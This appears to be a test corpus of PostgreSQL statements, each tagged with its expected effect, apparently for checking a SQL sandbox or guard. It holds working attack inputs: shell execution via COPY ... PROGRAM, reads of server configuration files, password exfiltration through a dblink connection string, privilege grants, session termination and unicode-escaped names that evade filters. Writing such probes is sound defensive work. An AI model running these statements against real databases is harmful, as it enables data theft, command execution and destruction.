-- Writes of every kind: rows, objects, files, other servers, the server itself.

-- case: insert or update
-- class: data modification
-- effect: writes
INSERT INTO customer (customer_id, name) VALUES (1, 'x') ON CONFLICT (customer_id) DO UPDATE SET name = 'x'
-- case: insert of defaults
-- class: data modification
-- effect: calls user code
INSERT INTO attack_log DEFAULT VALUES
-- case: insert of a query
-- class: data modification
-- effect: calls user code
INSERT INTO attack_log SELECT password FROM secret
-- case: update from
-- class: data modification
-- effect: writes
UPDATE customer SET name = s.password FROM secret s
-- case: update returning a denied value
-- class: data modification
-- effect: locks, leaks
UPDATE secret SET id = id RETURNING password
-- case: delete using
-- class: data modification
-- effect: writes
DELETE FROM order_line l USING product p WHERE p.product_id = l.product_id
-- case: delete in the second with query
-- class: data modification
-- effect: writes
WITH a AS (SELECT 1), d AS (DELETE FROM order_line RETURNING 1) SELECT * FROM a
-- case: update in a with query before values
-- class: data modification
-- effect: writes
WITH u AS (UPDATE customer SET name = 'x' RETURNING 1) VALUES (1)
-- case: insert in a with query before a union
-- class: data modification
-- effect: writes
WITH i AS (INSERT INTO secret VALUES (9, 'y') RETURNING id) SELECT id FROM i UNION ALL SELECT 1
-- case: delete in a recursive with
-- class: data modification
-- effect: writes
WITH RECURSIVE d AS (DELETE FROM order_line RETURNING 1) SELECT count(*) FROM d
-- case: merge that inserts
-- class: data modification
-- effect: writes
MERGE INTO secret s USING (VALUES (99, 'x')) v(id, p) ON s.id = v.id WHEN NOT MATCHED THEN INSERT VALUES (v.id, v.p)
-- case: merge by source (17)
-- class: data modification
-- effect: writes
-- on 15: refused
MERGE INTO order_line l USING (SELECT -1 AS o) v ON l.order_id = v.o WHEN NOT MATCHED BY SOURCE THEN DELETE
-- case: merge returning (17)
-- class: data modification
-- effect: writes
-- on 15: refused
MERGE INTO secret s USING (VALUES (1)) v(id) ON s.id = v.id WHEN MATCHED THEN UPDATE SET password = 'x' RETURNING merge_action(), s.*
-- case: merge returning in a with query (17)
-- class: data modification
-- effect: writes
-- on 15: refused
WITH m AS (MERGE INTO secret s USING (VALUES (1)) v(id) ON s.id = v.id WHEN MATCHED THEN DELETE RETURNING s.id) SELECT * FROM m
-- case: update returning the old row (18)
-- class: data modification
-- effect: writes, leaks
-- on 15: refused
UPDATE secret SET password = 'x' RETURNING OLD.password
-- case: delete returning with names (18)
-- class: data modification
-- effect: writes, leaks
-- on 15: refused
DELETE FROM secret RETURNING WITH (OLD AS o) o.password
-- case: update through a view
-- class: data modification
-- effect: writes
UPDATE paid_order SET total = 0
-- case: truncate and restart
-- class: data modification
-- effect: writes
TRUNCATE order_line RESTART IDENTITY
-- case: a sequence moved by lastval's like
-- class: data modification
-- effect: writes
SELECT nextval('counter'::regclass) FROM generate_series(1, 3)
-- case: a sequence in a filter
-- class: data modification
-- effect: writes
SELECT name FROM customer WHERE nextval('counter') > 0
-- case: a sequence, unicode name
-- class: data modification
-- effect: writes
SELECT U&"next\0076al"('counter')
-- case: table from a with query
-- class: tables from queries
-- effect: writes
WITH x AS (SELECT 1 AS a) SELECT a INTO stolen FROM x
-- case: table from a union
-- class: tables from queries
-- effect: writes
SELECT 1 AS a INTO stolen UNION ALL SELECT 2
-- case: unlogged table
-- class: tables from queries
-- effect: writes
SELECT * INTO UNLOGGED stolen FROM customer
-- case: table from execute
-- class: tables from queries
-- effect: refused
CREATE TABLE stolen AS EXECUTE p
-- case: table from values
-- class: tables from queries
-- effect: writes
CREATE TABLE stolen AS VALUES (1)
-- case: table if not exists
-- class: tables from queries
-- effect: writes
CREATE TABLE IF NOT EXISTS stolen AS TABLE secret WITH DATA
-- case: explain analyze of a materialized view
-- class: tables from queries
-- effect: writes
EXPLAIN ANALYZE CREATE MATERIALIZED VIEW stolen AS SELECT 1
-- case: explain analyze of an update in a with query
-- class: tables from queries
-- effect: writes
EXPLAIN ANALYZE WITH u AS (UPDATE customer SET name = 'x' RETURNING 1) SELECT * FROM u
-- case: explain analyze of a merge
-- class: tables from queries
-- effect: writes
EXPLAIN (ANALYZE true, COSTS off) MERGE INTO order_line l USING product p ON l.product_id = p.product_id WHEN MATCHED THEN DELETE
-- case: explain analyze calls a function
-- class: tables from queries
-- effect: calls user code
EXPLAIN ANALYZE SELECT evil()
-- case: explain with serialize (17)
-- class: tables from queries
-- effect: calls user code
-- on 15: refused
EXPLAIN (ANALYZE, SERIALIZE) SELECT evil()
-- case: explain of a constant call, which the planner makes
-- class: tables from queries
-- effect: none
EXPLAIN SELECT pg_sleep(0) FROM customer WHERE set_config('a.b', 'c', false) = 'c'
-- case: temporary table like another
-- class: tables from queries
-- effect: session
CREATE TEMPORARY TABLE t (LIKE secret INCLUDING ALL) ON COMMIT PRESERVE ROWS
-- case: temporary view
-- class: tables from queries
-- effect: session
CREATE TEMP VIEW v AS SELECT * FROM secret
-- case: a function of the session's own
-- class: tables from queries
-- effect: none
CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE sql AS 'SELECT 1'
-- case: copy out
-- class: COPY
-- effect: leaks
COPY secret TO STDOUT
-- case: copy a query out
-- class: COPY
-- effect: leaks
COPY (SELECT password FROM secret) TO STDOUT WITH (FORMAT csv)
-- case: copy a deleting query out
-- class: COPY
-- effect: writes, leaks
COPY (DELETE FROM secret RETURNING *) TO STDOUT
-- case: copy from a file
-- class: COPY
-- effect: calls user code
COPY attack_log FROM '{DATA}/canary.txt'
-- case: copy from a program
-- class: COPY
-- effect: calls user code
COPY attack_log FROM PROGRAM 'echo stolen'
-- case: copy from a program with a filter
-- class: COPY
-- effect: calls user code
COPY attack_log FROM PROGRAM 'echo stolen' WITH (FORMAT text) WHERE what <> ''
-- case: copy to a program that writes
-- class: COPY
-- effect: files
COPY (SELECT 1) TO PROGRAM 'tee {DATA}/stolen2 >/dev/null'
-- case: copy what errors ignore (17)
-- class: COPY
-- effect: writes
-- on 15: refused
COPY secret FROM STDIN WITH (ON_ERROR ignore)
-- case: copy binary to a file
-- class: COPY
-- effect: files
COPY secret TO '{DATA}/stolen.bin' WITH (FORMAT binary)
-- case: block in another language's name
-- class: DO and CALL
-- effect: writes
DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'DROP TABLE booking'; END $$
-- case: block that commits
-- class: DO and CALL
-- effect: writes
DO $$ BEGIN DELETE FROM order_line; COMMIT; END $$
-- case: block as a string
-- class: DO and CALL
-- effect: writes
DO 'BEGIN DELETE FROM order_line; END'
-- case: block that leaks
-- class: DO and CALL
-- effect: error leak
DO $$ BEGIN RAISE NOTICE '%', pg_read_file('canary.txt'); END $$
-- case: procedure, qualified
-- class: DO and CALL
-- effect: calls user code
CALL public.evil_procedure()
-- case: drop a schema
-- class: DDL and roles
-- effect: writes
DROP SCHEMA sales CASCADE
-- case: rename a table
-- class: DDL and roles
-- effect: writes
ALTER TABLE booking RENAME TO gone
-- case: a trigger
-- class: DDL and roles
-- effect: writes
CREATE TRIGGER t BEFORE INSERT ON booking FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()
-- case: a rule
-- class: DDL and roles
-- effect: refused
CREATE RULE r AS ON SELECT TO booking DO INSTEAD SELECT * FROM booking
-- case: a rule that writes
-- class: DDL and roles
-- effect: writes
CREATE RULE r AS ON INSERT TO booking DO ALSO DELETE FROM order_line
-- case: a view, DDL and roles
-- class: DDL and roles
-- effect: writes
CREATE OR REPLACE VIEW stolen AS SELECT * FROM secret
-- case: an operator
-- class: DDL and roles
-- effect: writes
CREATE OPERATOR <%> (LEFTARG = int, RIGHTARG = int, FUNCTION = evil_op)
-- case: a cast
-- class: DDL and roles
-- effect: writes
CREATE CAST (text AS order_state) WITH INOUT AS IMPLICIT
-- case: an aggregate
-- class: DDL and roles
-- effect: writes
CREATE AGGREGATE stolen (int) (SFUNC = evil_step, STYPE = int)
-- case: a domain
-- class: DDL and roles
-- effect: writes
CREATE DOMAIN stolen AS text CHECK (evil_check(VALUE))
-- case: a type
-- class: DDL and roles
-- effect: writes
CREATE TYPE stolen AS (a int)
-- case: a sequence
-- class: DDL and roles
-- effect: writes
CREATE SEQUENCE stolen
-- case: a publication
-- class: DDL and roles
-- effect: writes
CREATE PUBLICATION p FOR ALL TABLES
-- case: an event trigger
-- class: DDL and roles
-- effect: refused
CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION nothing()
-- case: a foreign server
-- class: DDL and roles
-- effect: writes
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1')
-- case: a login for another server
-- class: DDL and roles
-- effect: writes
CREATE USER MAPPING FOR canary_role SERVER far OPTIONS (password 'x')
-- case: extended statistics
-- class: DDL and roles
-- effect: writes
CREATE STATISTICS s ON name, email FROM customer
-- case: a collation
-- class: DDL and roles
-- effect: writes
CREATE COLLATION c FROM "C"
-- case: a search configuration
-- class: DDL and roles
-- effect: writes
CREATE TEXT SEARCH CONFIGURATION c (COPY = english)
-- case: default privileges
-- class: DDL and roles
-- effect: writes
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
-- case: settings of a database
-- class: DDL and roles
-- effect: writes
ALTER DATABASE postgres SET work_mem = '1GB'
-- case: settings of all roles
-- class: DDL and roles
-- effect: writes
ALTER ROLE ALL SET statement_timeout = 0
-- case: a function made powerful
-- class: DDL and roles
-- effect: writes
ALTER FUNCTION run_sql(text) OWNER TO canary_role
-- case: owned objects dropped
-- class: DDL and roles
-- effect: none
DROP OWNED BY canary_role
-- case: a role dropped
-- class: DDL and roles
-- effect: writes
DROP ROLE IF EXISTS canary_role
-- case: membership
-- class: DDL and roles
-- effect: writes
GRANT pg_read_all_data TO canary_role
-- case: rights on a function
-- class: DDL and roles
-- effect: writes
GRANT EXECUTE ON FUNCTION pg_read_file(text) TO PUBLIC
-- case: rights on a setting
-- class: DDL and roles
-- effect: writes
GRANT SET ON PARAMETER log_min_messages TO PUBLIC
-- case: a table's owner
-- class: DDL and roles
-- effect: writes
ALTER TABLE secret OWNER TO canary_role
-- case: a column hidden from statistics
-- class: DDL and roles
-- effect: writes
ALTER TABLE customer ALTER name SET STATISTICS 0
-- case: index concurrently
-- class: DDL and roles
-- effect: writes
CREATE INDEX CONCURRENTLY ON customer (email)
-- case: drop a function
-- class: DDL and roles
-- effect: writes
DROP FUNCTION nice_label(customer)
-- case: a subscription
-- class: DDL and roles
-- effect: reaches out
CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1 port={PORT} user=far connect_timeout=2' PUBLICATION p
-- case: a language
-- class: DDL and roles
-- effect: none
CREATE OR REPLACE LANGUAGE plpgsql
-- case: a virtual column (18)
-- class: DDL and roles
-- effect: writes
-- on 15: refused
ALTER TABLE customer ADD shout text GENERATED ALWAYS AS (upper(name)) VIRTUAL
-- case: a table
-- class: DDL and roles
-- effect: writes
CREATE TABLE stolen (a int DEFAULT evil())
-- case: part of a file
-- class: server files
-- effect: leaks
SELECT pg_read_file('canary.txt', 0, 100)
-- case: a missing file is not an error
-- class: server files
-- effect: leaks
SELECT pg_read_file('pg_hba.conf', 0, 10000, true)
-- case: file in a lateral
-- class: server files
-- effect: leaks
SELECT f FROM customer, LATERAL pg_read_file('canary.txt') f LIMIT 1
-- case: file in columns of rows
-- class: server files
-- effect: leaks
SELECT * FROM regexp_split_to_table(pg_read_file('canary.txt'), E'\n')
-- case: file by a unicode name
-- class: server files
-- effect: leaks
SELECT U&"pg\005fread\005ffile"('canary.txt')
-- case: file of the settings
-- class: server files
-- effect: leaks
SELECT convert_from(pg_read_binary_file('postgresql.conf'), 'UTF8')
-- case: directory above
-- class: server files
-- effect: refused
SELECT * FROM pg_ls_dir('..')
-- case: directory of changes
-- class: server files
-- effect: discovers
SELECT * FROM pg_ls_waldir()
-- case: temporary directory
-- class: server files
-- effect: none
SELECT * FROM pg_ls_tmpdir()
-- case: archive status
-- class: server files
-- effect: none
SELECT * FROM pg_ls_archive_statusdir()
-- case: summaries of changes (17)
-- class: server files
-- effect: none
-- on 15: refused
SELECT * FROM pg_available_wal_summaries()
-- case: files of slots
-- class: server files
-- effect: refused
SELECT * FROM pg_ls_replslotdir('x')
-- case: read a large object
-- class: large objects
-- effect: leaks
SELECT lo_get(4242)
-- case: read a part of a large object
-- class: large objects
-- effect: leaks
SELECT convert_from(lo_get(4242, 0, 100), 'UTF8')
-- case: read by descriptor
-- class: large objects
-- effect: leaks
SELECT loread(lo_open(4242, 262144), 100)
-- case: make one
-- class: large objects
-- effect: writes, discovers
SELECT lo_creat(-1)
-- case: cut one
-- class: large objects
-- effect: writes, discovers
SELECT lo_truncate(lo_open(4242, 131072), 0)
-- case: write into one
-- class: large objects
-- effect: writes
SELECT lo_put(4242, 0, 'x')
-- case: list of large objects
-- class: large objects
-- effect: discovers
SELECT * FROM pg_largeobject_metadata
-- case: dblink in a lateral
-- class: other servers
-- effect: reaches out
SELECT d.* FROM customer, LATERAL dblink('host=127.0.0.1 port={PORT} user=far connect_timeout=2', 'SELECT 1') AS d (a int) LIMIT 1
-- case: dblink_connect
-- class: other servers
-- effect: reaches out
SELECT dblink_connect('c', 'host=127.0.0.1 port={PORT} user=far connect_timeout=2')
-- case: dblink with what was read
-- class: other servers
-- effect: reaches out
SELECT dblink_connect('host=127.0.0.1 port={PORT} user=far connect_timeout=2 application_name=' || max(password)) FROM secret
-- case: dblink's own statements
-- class: other servers
-- effect: leaks
SELECT dblink_build_sql_insert('secret', '1', 1, '{1}', '{1}')
-- case: dblink's connections
-- class: other servers
-- effect: none
SELECT dblink_get_connections()
-- case: postgres_fdw connections
-- class: other servers
-- effect: none
SELECT * FROM postgres_fdw_get_connections()
-- case: foreign table in a subquery
-- class: other servers
-- effect: reaches out
SELECT (SELECT max(name) FROM far_customer)
-- case: connection string of a server
-- class: other servers
-- effect: reaches out
SELECT dblink_connect('far')
-- case: query to xml
-- class: SQL in text
-- effect: refused
-- on 15: leaks
SELECT query_to_xml('SELECT * FROM secret', true, true, '')
-- case: query to xml, and its schema
-- class: SQL in text
-- effect: refused
-- on 15: leaks
SELECT query_to_xml_and_xmlschema('SELECT * FROM secret', true, true, '')
-- case: table to xml
-- class: SQL in text
-- effect: refused
-- on 15: leaks
SELECT table_to_xml('secret', true, true, '')
-- case: schema to xml
-- class: SQL in text
-- effect: refused
-- on 15: calls user code, leaks
SELECT schema_to_xml('public', true, true, '')
-- case: ts_stat with weights
-- class: SQL in text
-- effect: leaks
SELECT word FROM ts_stat('SELECT to_tsvector(''simple'', password) FROM secret', 'abcd')
-- case: ts_stat that calls a function
-- class: SQL in text
-- effect: calls user code
SELECT word FROM ts_stat('SELECT to_tsvector(evil()::text)')
-- case: ts_rewrite by a query
-- class: SQL in text
-- effect: leaks
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, to_tsquery(''simple'', max(password)) FROM secret')
-- case: a tree by text
-- class: SQL in text
-- effect: refused
SELECT * FROM connectby('secret', 'password', 'id', '1', 0) AS t (keyid text, parent_keyid text, level int)
-- case: crosstab of two texts
-- class: SQL in text
-- effect: leaks
SELECT * FROM crosstab('SELECT password, id::text, password FROM secret', 'SELECT ''1''') AS t (a text, b text)
-- case: rows by a prepared text
-- class: SQL in text
-- effect: session, escapes
PREPARE q AS SELECT 1; EXECUTE q
-- case: run_sql in a filter
-- class: SQL in text
-- effect: writes
SELECT name FROM customer WHERE run_sql('DELETE FROM order_line') = 'ok'
-- case: run_sql with a bypass
-- class: SQL in text
-- effect: files
SELECT run_sql('COPY secret TO ''{DATA}/run_sql.txt''')
-- case: reset shared statistics
-- class: administration
-- effect: server
SELECT pg_stat_reset_shared('bgwriter')
-- case: reset a table's statistics
-- class: administration
-- effect: server
SELECT pg_stat_reset_single_table_counters('customer'::regclass)
-- case: forget the statistics' snapshot
-- class: administration
-- effect: none
SELECT pg_stat_clear_snapshot()
-- case: clear a table's statistics (18)
-- class: administration
-- effect: writes
-- on 15: refused
SELECT pg_clear_relation_stats('public', 'customer')
-- case: clear a column's statistics (18)
-- class: administration
-- effect: writes
-- on 15: refused
SELECT pg_clear_attribute_stats('public', 'customer', 'name', false)
-- case: write a column's statistics (18)
-- class: administration
-- effect: writes, discovers
-- on 15: refused
SELECT pg_restore_attribute_stats('schemaname', 'public', 'relname', 'customer', 'attname', 'name', 'inherited', false, 'null_frac', 0.5::real)
-- case: restore point
-- class: administration
-- effect: discovers
SELECT pg_create_restore_point('x')
-- case: a replication origin
-- class: administration
-- effect: writes, discovers
SELECT pg_replication_origin_create('x')
-- case: a temporary slot
-- class: administration
-- effect: discovers, files
SELECT pg_create_physical_replication_slot('y', true, true)
-- case: pause replay
-- class: administration
-- effect: refused
SELECT pg_wal_replay_pause()
-- case: memory of a process into the log
-- class: administration
-- effect: discovers
SELECT pg_log_backend_memory_contexts(pg_backend_pid())
-- case: end every other session
-- class: administration
-- effect: discovers, stops others
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND application_name = 'victim'
-- case: end a session and wait
-- class: administration
-- effect: stops others
SELECT pg_terminate_backend(pid, 1000) FROM pg_stat_activity WHERE application_name = 'victim'
-- case: summarize an index
-- class: administration
-- effect: stops others
SELECT brin_summarize_new_values('customer_pkey')
-- case: clean an index
-- class: administration
-- effect: refused
SELECT gin_clean_pending_list('customer_pkey')
-- case: flush the statistics
-- class: administration
-- effect: none
SELECT pg_stat_force_next_flush()
-- case: synchronize slots (17)
-- class: administration
-- effect: refused
SELECT pg_sync_replication_slots()
-- case: number of a new object
-- class: administration
-- effect: discovers
SELECT pg_nextoid('pg_class', 'oid', 'pg_class_oid_index')
-- case: vacuum everything
-- class: administration
-- effect: writes
VACUUM
-- case: vacuum full
-- class: administration
-- effect: writes
VACUUM (FULL, ANALYZE) order_line
-- case: analyze some columns
-- class: administration
-- effect: writes
ANALYZE customer (name)
-- case: reindex a database's catalogs
-- class: administration
-- effect: writes
-- on 15: refused
REINDEX SYSTEM
-- case: reindex concurrently
-- class: administration
-- effect: writes
REINDEX INDEX CONCURRENTLY customer_pkey
-- case: cluster a table
-- class: administration
-- effect: writes
CLUSTER customer USING customer_pkey
-- case: alter system reset
-- class: administration
-- effect: writes
ALTER SYSTEM RESET ALL
-- case: a tablespace
-- class: administration
-- effect: refused
CREATE TABLESPACE t LOCATION '{DATA}/nowhere'
-- case: extension files written (15)
-- class: administration
-- effect: refused
SELECT pg_file_write('stolen', 'x', false)
-- case: an object's description made
-- class: administration
-- effect: refused
SECURITY LABEL ON TABLE customer IS 'x'
